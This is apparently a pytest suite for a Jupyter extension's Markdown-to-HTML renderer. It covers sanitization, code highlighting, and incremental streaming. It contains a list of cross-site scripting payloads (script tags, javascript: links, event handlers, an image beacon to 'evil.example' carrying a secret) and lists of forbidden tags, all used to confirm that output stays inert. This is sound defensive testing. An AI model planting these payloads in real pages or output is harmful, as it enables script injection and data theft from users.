"""ui.render: model Markdown becomes safe HTML, and streaming renders it incrementally."""

from __future__ import annotations

import html
import random
import re
from html.parser import HTMLParser

import pytest

from claude_magics.ui import incremental
from claude_magics.ui.highlight import TOKEN_CLASSES, highlight
from claude_magics.ui.incremental import IncrementalRenderer
from claude_magics.ui.render import (
    CSS,
    STYLE,
    render_error,
    render_markdown,
    render_notice,
    render_thinking,
    render_tool_call,
    render_tool_result,
    render_usage_line,
    wrap_answer,
)


class Elements(HTMLParser):
    """Every start tag with its (decoded) attributes, and the visible text."""

    def __init__(self, markup: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    handle_startendtag = handle_starttag

    def handle_data(self, data):
        self.text.append(data)

    @property
    def visible(self) -> str:
        return "".join(self.text)


FORBIDDEN_TAGS = {
    "script", "style", "iframe", "frame", "frameset", "object", "embed", "svg", "math", "img",
    "image", "video", "audio", "source", "form", "input", "button", "textarea", "select", "link",
    "meta", "base", "template", "details", "mglyph", "applet",
}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "background", "poster", "data"}


def assert_safe(markup: str, ours: frozenset[str] = frozenset()) -> Elements:
    """Parse the output and check it could not run script or load anything by itself.

    ``ours``: tags our own markup adds around sanitized content (the thinking ``<details>``).
    """
    parsed = Elements(markup)
    for tag, attrs in parsed.tags:
        assert tag not in FORBIDDEN_TAGS - ours, (tag, markup)
        for name, value in attrs.items():
            assert not name.startswith("on"), (tag, name, markup)
            assert name not in {"style", "srcdoc", "srcset"}, (tag, name, markup)
            if name in URL_ATTRIBUTES:
                url = re.sub(r"[\x00-\x20]", "", value or "").lower()
                assert url.startswith(("http://", "https://", "mailto:")), (tag, name, value)
    return parsed


XSS_PAYLOADS = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&#x3A;alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<javascript:alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>">',
    '<a href="jAvAsCrIpT:alert(1)">click</a>',
    '<a href="&#106;avascript:alert(1)">click</a>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "[click][ref]\n\n[ref]: javascript:alert(1)",
    '[click][ref]\n\n[ref]: https://ok.example "title" onclick="alert(1)',
    "<details open ontoggle=alert(1)>x</details>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<div style="width: expression(alert(1))">x</div>',
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    '<form action="javascript:alert(1)"><input type=submit></form>',
    "<base href=javascript:alert(1)//>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "![x](https://evil.example/collect?secret=42)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '![x" onerror="alert(1)](https://x.example/a.png)',
    '[x](https://ok.example" onmouseover="alert(1))',
    "<<script>script>alert(1)<</script>/script>",
    "<!--<img src=x onerror=alert(1)>-->",
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
]

CONTEXTS = [
    "{}",
    "Intro paragraph.\n\n{}\n\nOutro.",
    "- item one\n- {}",
    "> {}",
    "# {}",
    "| a | b |\n|---|---|\n| {} | 2 |",
    "Some **bold {}** text",
]


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
@pytest.mark.parametrize("context", CONTEXTS)
def test_xss_payloads_stay_inert(payload, context):
    assert_safe(render_markdown(context.format(payload)))


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_xss_payloads_stay_inert_while_streaming(payload):
    text = f"Look:\n\n{payload}\n\nand {payload}"
    renderer = IncrementalRenderer()
    for end in range(1, len(text) + 1):
        assert_safe(renderer.feed(text[:end]).html)
    assert_safe(renderer.finish(text))


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_our_own_boxes_escape_their_text(payload):
    for markup in (
        render_error(payload),
        render_notice(payload),
        render_usage_line(payload),
        render_thinking(payload),
        render_tool_call(payload, {"q": payload}),
        render_tool_call("run_python", {"code": payload}),
        render_tool_call("bash", {"command": payload}),
        render_tool_result(payload, payload),
        render_tool_result(payload, payload, error=True),
    ):
        parsed = assert_safe(markup, ours=frozenset({"details"}))
        assert sum(tag == "details" for tag, _ in parsed.tags) <= 1


def test_raw_html_is_shown_as_text_not_dropped():
    parsed = assert_safe(render_markdown("Use <b>bold</b> and <script>alert(1)</script> here."))
    assert "b" not in {tag for tag, _ in parsed.tags}
    assert "Use <b>bold</b> and <script>alert(1)</script> here." in parsed.visible


def test_links_are_absolute_web_links_opening_in_a_new_tab():
    parsed = Elements(render_markdown("[a](https://example.com/x?y=1&z=2) and <mail@example.com> and [r](docs/x.md) and [p](//evil.example)"))
    links = [attrs for tag, attrs in parsed.tags if tag == "a"]
    assert links[0]["href"] == "https://example.com/x?y=1&z=2"
    assert links[1]["href"] == "mailto:mail@example.com"
    assert "href" not in links[2] and "href" not in links[3]  # relative: would hit the Jupyter server
    for attrs in links:
        assert attrs["target"] == "_blank"
        assert set(attrs["rel"].split()) == {"noopener", "noreferrer", "nofollow"}


def test_images_become_links_and_are_never_loaded():
    parsed = assert_safe(render_markdown("Chart: ![monthly sales](https://example.com/chart.png) done"))
    [(tag, attrs)] = [(t, a) for t, a in parsed.tags if t == "a"]
    assert attrs["href"] == "https://example.com/chart.png"
    assert "image: monthly sales" in parsed.visible


def test_tables_keep_alignment_without_style_attributes():
    parsed = assert_safe(render_markdown("| a | b | c |\n|:--|:-:|--:|\n| 1 | 2 | 3 |"))
    aligns = [attrs.get("align") for tag, attrs in parsed.tags if tag == "td"]
    assert aligns == ["left", "center", "right"]


def test_code_is_highlighted_with_our_classes_and_keeps_its_text():
    code = 'import pandas as pd\n\n@cache\ndef f(x):  # why\n    return "a<b" + str(1.5) if x is None else [x]\n'
    out = render_markdown(f"```python\n{code}```")
    parsed = assert_safe(out)
    classes = {attrs["class"] for tag, attrs in parsed.tags if tag == "span"}
    assert {"kw", "str", "com", "num", "def", "bi", "meta"} <= classes <= TOKEN_CLASSES
    assert parsed.visible == code
    assert out.startswith('<div class="claude-code"><pre><code>')


PYTHON_SNIPPETS = [
    '@dataclass\nclass Row(Base):\n    """Doc with \'quotes\' and "more"."""\n',
    "def f(self, x=0x_ff, y=1_000.5e-3j):  # a comment with \"quotes\"\n    return a @ b, rb'\\x00', f\"{x!r}\"\n",
    "s = '''never closed\nstill going\n",
    "x = 'it\\'s' + \"say \\\"hi\\\"\" + 'open\ny = 1.; z = .5e-3\n",
    "if df['a'] < 3 and not flag:\n\tprint(len(df), None, True)\n",
    "λ = 1\n    @prop.setter\n    def value(self, v): ...\n",
]


@pytest.mark.parametrize("code", PYTHON_SNIPPETS)
def test_python_highlighting_keeps_every_character(code):
    out = highlight(code, "python")
    assert html.unescape(re.sub(r"<[^>]+>", "", out)) == code
    assert set(re.findall(r'class="([^"]+)"', out)) <= TOKEN_CLASSES


def test_python_highlighting_classes():
    out = highlight("@cache\ndef mean(xs):  # avg\n    return sum(xs) / len(xs) if xs else None\nm = a @ b\n", "py")
    assert '<span class="meta">@cache</span>' in out
    assert '<span class="kw">def</span> <span class="def">mean</span>' in out
    assert '<span class="com"># avg</span>' in out
    assert '<span class="bi">sum</span>' in out and '<span class="kw">None</span>' in out
    assert 'a <span class="op">@</span> b' in out  # matrix product, not a decorator


def test_python_highlighting_knows_match_case_and_nested_f_strings():
    code = 'match cmd:\n    case {"x": x}:\n        print(f"{x:{width}} {f\'{y!r}\'}")\n'
    out = highlight(code, "python")
    assert '<span class="kw">match</span>' in out and '<span class="kw">case</span>' in out
    assert html.unescape(re.sub(r"<[^>]+>", "", out)) == code
    # the fields of both f-strings are code, not string: ``x``, ``width`` and ``y`` stay uncoloured
    assert re.search(r'<span class="op">\{</span>x<span class="op">:\{</span>width', out), out
    assert '<span class="op">{</span>y<span class="op">!r}</span>' in out or ">y<" in out


def test_other_languages_go_through_pygments():
    code = "SELECT region, AVG(price) FROM orders WHERE price > 0; -- note\n"
    out = highlight(code, "sql")
    assert '<span class="kw">SELECT' in out and '<span class="com">-- note' in out
    assert html.unescape(re.sub(r"<[^>]+>", "", out)) == code


def test_code_in_unknown_or_no_language_is_plain_escaped_text():
    for fence in ("```nosuchlanguage", "```"):
        out = render_markdown(f"{fence}\nif a < b: <script>\n```")
        assert "<span" not in out
        assert "if a &lt; b: &lt;script&gt;" in out
    assert highlight("x < 1", None) == "x &lt; 1"


def test_only_known_classes_survive_anywhere():
    allowed = TOKEN_CLASSES | {"claude-code", "claude-image"}
    text = "# t\n\n```python\nx = 1\n```\n\n![i](https://e.example/i.png)\n\n| a |\n|---|\n| b |"
    for tag, attrs in Elements(render_markdown(text)).tags:
        assert set((attrs.get("class") or "").split()) <= allowed, (tag, attrs)


def test_commonmark_lists_without_a_blank_line_and_nested_by_three_spaces():
    out = render_markdown("Here are the issues:\n- first\n- second")
    assert out == "<p>Here are the issues:</p>\n<ul>\n<li>first</li>\n<li>second</li>\n</ul>"
    nested = render_markdown("- parent\n   - child\n- sibling")
    assert nested.count("<ul>") == 2 and "<li>parent\n<ul>\n<li>child</li>" in nested


def test_strikethrough_and_bare_urls_render_but_file_names_stay_text():
    out = render_markdown("~~old~~ see https://pandas.pydata.org/docs/ or mail team@example.com; edit README.md and setup.py")
    assert "<s>old</s>" in out
    links = [attrs["href"] for tag, attrs in Elements(out).tags if tag == "a"]
    assert links == ["https://pandas.pydata.org/docs/", "mailto:team@example.com"]


def test_code_fence_left_open_at_the_end_still_renders_as_code():
    out = render_markdown("Here:\n\n```python\nx = 1\nif x")  # cut off by max_tokens
    assert '<div class="claude-code">' in out and "```" not in out


def test_helpers():
    assert render_error("Boom <b>") == '<div class="claude-error">Boom &lt;b&gt;</div>'
    assert render_usage_line("1 in · 2 out") == '<div class="claude-usage">1 in · 2 out</div>'
    thinking = render_thinking("step *one*")
    assert thinking.startswith('<details class="claude-thinking"><summary>Thinking</summary>')
    assert "<em>one</em>" in thinking and " open" not in thinking
    call = render_tool_call("search", {"query": "<x>", "n": 3})
    assert call.startswith(
        '<details class="claude-tool"><summary><code>tool call: search(query="&lt;x&gt;", n=3)</code></summary>'
    )
    assert '"query": "&lt;x&gt;",\n  "n": 3' in call  # the whole input, as JSON, in the body
    long = render_tool_call("f", {"text": "y" * 1000})
    summary = long[: long.index("</summary>")]
    assert len(html.unescape(summary)) < 200 and "…" in summary
    assert "y" * 1000 in long  # the body has it all
    assert wrap_answer("<p>x</p>") == STYLE + '<div class="claude-answer mathjax_ignore tex2jax_ignore"><p>x</p></div>'


def test_css_is_scoped_small_and_uses_only_safe_constructs():
    assert STYLE == f"<style>{CSS}</style>" and len(STYLE) < 4000
    lowered = CSS.lower()
    for bad in ("url(", "@import", "expression", "javascript", "behavior", "-moz-binding", "</", "<"):
        assert bad not in lowered
    for rule in filter(None, CSS.split("}")):
        selectors, _, declarations = rule.partition("{")
        assert declarations, rule
        for selector in re.sub(r":is\([^)]*\)", ":is()", selectors).split(","):
            assert selector.startswith(".claude-answer"), rule  # never styles the page around us
    # theme variables always carry a fallback, for front ends without JupyterLab's theme
    for use in re.findall(r"var\(([^)]*)\)", CSS):
        assert "," in use, use


# ---------------------------------------------------------------------------------------------
# IncrementalRenderer

TYPICAL_ANSWERS = [
    # prose, inline markup, a list, code, a table
    """The `price` column is **right-skewed**: the mean (52.1) sits well above the median (31.0).

A few things stand out:

- 3% of rows have a *negative* price
- `region` is missing for the first two weeks
- order ids repeat after retried uploads

```python
clean = df[df["price"] > 0].drop_duplicates("order_id", keep="last")
clean.groupby("region")["price"].median()
```

| region | median |
|:-------|-------:|
| north  | 29.5   |
| south  | 33.0   |

See [the pandas docs](https://pandas.pydata.org/docs/) for `drop_duplicates`.
""",
    # headings, numbered steps with a loose list, a quote, nested list, hr
    """## Plan

1. Load the data

2. Clean it

3. Fit the model

> Note: the test set must stay untouched until the end.

- Features
    - numeric: scaled
    - categorical: one-hot
- Target: `churn`

---

### Result

Accuracy is 0.87; recall on churners is only 0.52, so the threshold needs tuning.
""",
    # several code blocks in different languages, text between them, a tilde fence
    """Run this first:

```bash
pip install scikit-learn
```

Then in SQL:

```sql
SELECT region, AVG(price) AS mean_price
FROM orders
WHERE price > 0
GROUP BY region;
```

~~~
plain output
  with indentation
~~~

Done.""",
    # setext headings, indented code, escapes, emphasis edge cases
    """Summary
=======

Text with \\*literal stars\\* and a trailing backslash\\
new line.

    indented code block
    second line

Details
-------

*a* **b** ***c*** and 2 * 3 * 4.
""",
]


def feed_steps(text: str, step: int = 4):
    for end in range(step, len(text) + step, step):
        yield text[: min(end, len(text))]


@pytest.mark.parametrize("answer", TYPICAL_ANSWERS)
def test_incremental_html_equals_a_whole_render_at_every_step(answer):
    renderer = IncrementalRenderer()
    for prefix in feed_steps(answer, 1):
        update = renderer.feed(prefix)
        assert update.html == render_markdown(prefix, streaming=True), prefix
    assert update.block_count >= 3
    assert renderer.finish(answer) == render_markdown(answer) == update.html


@pytest.mark.parametrize("answer", TYPICAL_ANSWERS)
def test_a_consumer_of_new_blocks_and_tail_rebuilds_the_same_html(answer):
    renderer, shown, tail = IncrementalRenderer(), [], ""
    for prefix in feed_steps(answer):
        update = renderer.feed(prefix)
        if update.reset:
            shown = []
        shown.extend(update.new_blocks)
        tail = update.tail
        assert len(shown) == update.block_count
        assert "\n".join(shown + ([tail] if tail else [])) == update.html


SNIPPETS = [
    "A paragraph with *emphasis*, `code` and a [link](https://example.com).",
    "Line one\nline two of the same paragraph.",
    "# Heading",
    "Setext heading\n==============",
    "- one\n- two",
    "1. first\n2. second",
    "- loose item\n\n- another loose item",
    "10. ten\n\n11. eleven",
    "- parent\n    - child",
    "- item\n\n    continued paragraph in the item",
    "> quoted\n> text",
    "> quote",
    "```python\nx = 1\n\n\ny = 2\n```",
    "~~~\nplain ~~~ code\n~~~",
    "````md\n```python\ninner\n\n```\n````",
    "```\nthis fence is not closed by\n````\n\nstill code\n```",
    "    indented code\n\n    more of it",
    "| a | b |\n|---|--:|\n| 1 | 2 |",
    "---",
    "* * *",
    "+ plus\n+ list",
    "Text then a list:\n- a\n- b",
    "Raw <b>html</b> &amp; &copy;",
    "![img](https://example.com/y.png) and <https://example.com>",
    "Here are the issues:\n- first\n- second",
    "- a\n   - nested by three\n- b",
    "~~gone~~ and a bare https://example.com/x?y=1 link",
    "1. one\n\n2. two",
    "- item\n\n  ```python\n  x = {1: 2}\n  ```",
    "> ```\n> quoted code\n> ```",
    "Money: $120 in January to $150 in July.",
]


def test_block_splitting_matches_whole_renders_on_random_documents():
    """Any mix of constructs, cut anywhere (outside an open fence), renders like the whole."""
    rnd = random.Random(20240601)
    for _ in range(40):
        parts = [rnd.choice(SNIPPETS) for _ in range(rnd.randint(2, 6))]
        text = "".join(part + rnd.choice(["\n\n", "\n\n\n", "\n"]) for part in parts)
        renderer = IncrementalRenderer()
        for prefix in feed_steps(text, 1):
            assert renderer.feed(prefix).html == render_markdown(prefix, streaming=True), prefix
        assert renderer.finish(text) == render_markdown(text)


def test_open_fence_is_previewed_as_escaped_code_until_it_closes():
    renderer = IncrementalRenderer()
    update = renderer.feed("Try:\n\n```python\nif a < b:\n    pri")
    assert update.tail.endswith('<div class="claude-code"><pre><code>if a &lt; b:\n    pri</code></pre></div>')
    assert "<span" not in update.tail  # not highlighted while open
    closed = renderer.feed("Try:\n\n```python\nif a < b:\n    print(a)\n```\n\nNext.")
    assert '<span class="kw">' in closed.html
    assert closed.html == render_markdown("Try:\n\n```python\nif a < b:\n    print(a)\n```\n\nNext.")


def test_finish_is_exact_where_blocks_differ_from_the_whole():
    text = "See [the docs][1].\n\nMore text.\n\n[1]: https://example.com/docs"
    renderer = IncrementalRenderer()
    streamed = renderer.feed(text).html
    assert 'href="https://example.com/docs"' not in streamed  # the definition came later
    final = renderer.finish(text)
    assert final == render_markdown(text)
    assert 'href="https://example.com/docs"' in final


def test_finish_reuses_finished_blocks_unless_a_link_definition_arrives_last(monkeypatch):
    head = "See [the docs][1].\n\nMore text.\n\nAnd more.\n\n"
    renderer = IncrementalRenderer()
    renderer.feed(head)
    final = renderer.finish(head + "[1]: https://example.com/docs")
    assert 'href="https://example.com/docs"' in final
    assert final == render_markdown(head + "[1]: https://example.com/docs")
    seen = []
    real = incremental.render_markdown
    monkeypatch.setattr(incremental, "render_markdown", lambda text, **kw: seen.append(text) or real(text, **kw))
    renderer.feed(head + "Last")
    seen.clear()
    assert renderer.finish(head + "Last words.") == real(head + "Last words.")
    assert seen == ["Last words."]  # only what was not finished (a blank line ended "And more.")


def test_unchanged_text_is_not_rendered_again(monkeypatch):
    renderer = IncrementalRenderer()
    renderer.feed("a paragraph\n\nanother")
    calls = []
    monkeypatch.setattr(incremental, "render_markdown", lambda text, **kw: calls.append(text) or "")
    update = renderer.feed("a paragraph\n\nanother")
    assert not update.changed and update.new_blocks == () and calls == []


def test_nothing_is_rendered_twice(monkeypatch):
    seen = []
    real = incremental.render_markdown
    monkeypatch.setattr(incremental, "render_markdown", lambda text, **kw: seen.append(text) or real(text, **kw))
    answer = TYPICAL_ANSWERS[0]
    renderer = IncrementalRenderer()
    for prefix in feed_steps(answer, 1):
        renderer.feed(prefix)
    assert len(seen) == len(set(seen))  # finished blocks once; a tail only when it changed
    assert renderer.html == real(answer)


def test_text_that_does_not_extend_the_previous_one_resets():
    renderer = IncrementalRenderer()
    renderer.feed("first\n\nsecond\n\nthird")
    update = renderer.feed("other\n\nthing")
    assert update.reset and update.changed
    assert update.html == render_markdown("other\n\nthing")


def test_streaming_cost_is_linear_in_the_answer_length(monkeypatch):
    """Characters handed to Markdown per character of answer must not grow with the length."""
    rendered = [0]

    def counting(text, **kw):
        rendered[0] += len(text)
        return "<p>" + html.escape(text) + "</p>"

    monkeypatch.setattr(incremental, "render_markdown", counting)
    unit = TYPICAL_ANSWERS[0] + "\n" + TYPICAL_ANSWERS[1] + "\n"

    def cost(copies: int) -> float:
        answer = unit * copies
        rendered[0] = 0
        renderer = IncrementalRenderer()
        for n, prefix in enumerate(feed_steps(answer)):
            if n % 25 == 0:  # ~10 updates a second at fast streaming
                renderer.feed(prefix)
        renderer.finish(answer)
        return rendered[0] / len(answer)

    small, large = cost(20), cost(80)  # ~30 KB and ~120 KB
    assert large < 5
    assert large < small * 1.25  # quadratic work would make this ~4x
